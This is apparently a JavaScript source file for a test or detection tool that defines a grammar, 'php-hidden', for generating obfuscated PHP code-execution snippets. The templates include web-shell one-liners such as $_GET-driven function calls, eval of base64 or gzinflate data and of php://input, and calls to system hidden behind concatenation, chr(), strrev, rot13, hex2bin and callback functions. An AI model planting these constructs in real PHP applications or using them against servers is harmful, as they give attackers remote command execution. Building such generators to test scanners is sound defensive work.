// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of scripts
import { codeGenerator, other } from '../code-generator.js';

/** PHP: functions by variables, callbacks and decoders. */
export const phpHidden = codeGenerator({
  name: 'php-hidden',
  places: other('php'),
  rules: {
    start: ['{php}{odd};?>', '{open}{odd};', "';{odd};//", '${l}{odd}{r}', '{open}echo {odd};'],
    php: ['<?php ', '<?=', '<?php @'],
    odd: [
      '$_GET[{digit}]($_GET[{number}])',
      "$_POST['{letters}']($_POST['{letters}'])",
      "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
      "assert(base64_decode('cGhwaW5mbygp'))",
      "('sys'.'tem')('{command}')",
      "$a='sys'.'tem';$a('{command}')",
      '(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))("{command}")',
      "call_user_func('system','{command}')",
      "call_user_func_array('exec',['{command}'])",
      "array_map('system',['{command}'])",
      "array_filter(['{command}'],'passthru')",
      "usort($x,'system')",
      "preg_replace('/x/e','system(\"{command}\")','x')",
      "create_function('','system(\"{command}\");')()",
      "\\system('{command}')",
      "(function(){l}system('{command}');{r})()",
      "register_shutdown_function('system','{command}')",
      "ob_start('system');echo '{command}'",
      '$f="{letters}";$f=strrev("metsys");$f("{command}")',
      "str_rot13('flfgrz')('{command}')",
      "hex2bin('73797374656d')('{command}')",
      'extract($_GET);$x($y)',
      "include('data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==')",
      "eval(gzinflate(base64_decode('{letters}')))",
      "(new ReflectionFunction('system'))->invoke('{command}')",
      "eval('?>'.file_get_contents('php://input'))",
    ],
  },
});
